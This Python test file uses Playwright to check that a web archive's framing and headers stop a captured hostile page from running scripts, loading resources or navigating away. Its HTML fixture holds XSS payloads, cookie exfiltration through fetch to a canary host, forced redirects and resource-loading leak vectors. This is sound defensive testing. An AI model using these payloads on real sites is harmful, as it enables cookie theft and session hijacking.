"""A captured page that wants out: whatever it tries, nothing runs, nothing is loaded, nobody is led away."""

from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Dialog, Page

from tests.web.browsing import Canary
from tests.web.house import House, close_house, open_house

# What can be clicked stands at fixed places: no script of ours gets into such a frame either.
HOSTILE = """<!doctype html><html><head><meta charset="utf-8">
<meta http-equiv="refresh" content="0;url={canary}/refresh">
<meta http-equiv="Content-Security-Policy" content="default-src *; script-src * 'unsafe-inline'">
<base href="{canary}/">
<link rel="stylesheet" href="{canary}/sheet.css"><link rel="pre&#99;onnect" href="{canary}">
<LINK/rel=preconnect href="{canary}">
<link rel="icon" href="/icon">
<link rel="dns-prefetch" href="{canary}"><link rel="prefetch" href="{canary}/prefetch">
<link rel="preload" as="image" href="{canary}/preload"><link rel="modulepreload" href="{canary}/module.js">
<link rel="manifest" href="{canary}/manifest"><link rel="prerender" href="{canary}/prerender">
<style>@import url("{canary}/import.css"); body {{ background: url("{canary}/background") }}
@font-face {{ font-family: x; src: url("{canary}/font") }} p {{ font-family: x }}
a, button {{ position: absolute; left: 0; width: 200px; height: 30px; display: block }}</style>
<script src="{canary}/script.js"></script>
<script>alert(document.cookie); top.location = "{canary}/script"; fetch("{canary}/?" + document.cookie)</script>
<script type="speculationrules">{{"prefetch": [{{"source": "list", "urls": ["{canary}/speculation"]}}]}}</script>
</head><body onload="alert(1)"><p>Chữ của trang.</p>
<a style="top: 100px" href="{canary}/top" target="_top" ping="{canary}/ping">top</a>
<a style="top: 140px" href="{canary}/blank" target="_blank">blank</a>
<a style="top: 180px" href="{canary}/self">self</a>
<form action="{canary}/form" method="post" target="_top"><button style="top: 220px">send</button></form>
<form id="ours" action="{ours}logout" method="post"><button style="top: 260px">out</button></form>
<a style="top: 300px" href="javascript:alert(2)">script</a>
<a style="top: 340px" href="{ours}outbox" target="_top">ours</a>
<img src="{canary}/picture" onerror="alert(3)"><img srcset="{canary}/set 2x"><svg onload="alert(4)"></svg>
<picture><source srcset="{canary}/source"><img></picture><video src="{canary}/video" poster="{canary}/poster"></video>
<audio src="{canary}/audio" autoplay></audio><track src="{canary}/track"><input type="image" src="{canary}/button">
<iframe src="{canary}/frame"></iframe><iframe srcdoc="<script>alert(5)</script><img src='{canary}/inner'>"></iframe>
<iframe src="{ours}outbox"></iframe><object data="{canary}/object"></object><embed src="{canary}/embed">
<svg><image href="{canary}/svg"/><use href="{canary}/use#x"/></svg>
<input autofocus onfocus="alert(6)"><details open ontoggle="alert(7)">x</details>
<div style="position: fixed; inset: 500px 0 0 0; background: url({canary}/style)">unten</div></body></html>"""

CLICKED = range(115, 356, 40)


@pytest.fixture
def canary() -> Iterator[Canary]:
    """Where such a page wants to go."""
    place = Canary()
    yield place
    place.close()


@pytest.fixture
def lured(tmp_path: Path, canary: Canary) -> Iterator[House]:
    """A house in whose archive such a page is."""
    opened = open_house(tmp_path)
    opened.publish("/x-post1.html", page=HOSTILE.format(canary=canary.origin, ours=opened.server.url).encode())
    yield opened
    close_house(opened)


def visit(chromium: Browser, house: House, *, scripts: bool = True) -> tuple[Page, list[str]]:
    context = chromium.new_context(base_url=house.server.url, java_script_enabled=scripts)
    context.add_cookies([{"name": "roundwatch", "value": "secret", "url": house.server.url}])
    page = context.new_page()
    seen: list[str] = []
    page.on("dialog", lambda dialog: _refuse(dialog, seen))
    context.on("page", lambda other: seen.append(f"a window: {other.url}"))
    return page, seen


def _refuse(dialog: Dialog, seen: list[str]) -> None:
    seen.append(dialog.message)
    dialog.dismiss()


@pytest.mark.parametrize("scripts", [True, False])
def test_in_its_frame_it_runs_loads_and_opens_nothing(
    chromium: Browser, lured: House, canary: Canary, *, scripts: bool
) -> None:
    page, seen = visit(chromium, lured, scripts=scripts)
    page.goto("/articles/1/page/1", wait_until="networkidle")
    ours = page.url
    frame = page.locator("iframe.capture").bounding_box()
    assert frame is not None
    assert frame["height"] > max(CLICKED)
    for down in CLICKED:
        page.mouse.click(frame["x"] + 20, frame["y"] + down)
        page.wait_for_load_state("networkidle")
        assert page.url == ours
    assert [one.url for one in page.context.pages] == [ours]
    page.context.close()
    assert seen == []
    assert canary.visits == []


def test_opened_alone_it_runs_and_loads_nothing(chromium: Browser, lured: House, canary: Canary) -> None:
    page, seen = visit(chromium, lured)
    page.goto("/articles/1/captures/1", wait_until="networkidle")
    for down in (*CLICKED[3:5], CLICKED[5]):
        page.mouse.click(20, down)
        page.wait_for_load_state("networkidle")
    assert page.url.endswith("/articles/1/captures/1")
    page.context.close()
    assert seen == []
    assert canary.visits == []


def test_the_canary_sings(chromium: Browser, lured: House, canary: Canary) -> None:
    page = chromium.new_page()
    page.on("dialog", lambda dialog: dialog.dismiss())
    page.set_content(HOSTILE.format(canary=canary.origin, ours=lured.server.url), wait_until="commit")
    page.wait_for_load_state("networkidle")
    page.close()
    assert len(canary.visits) > 3, "without our headers such a page gets out"
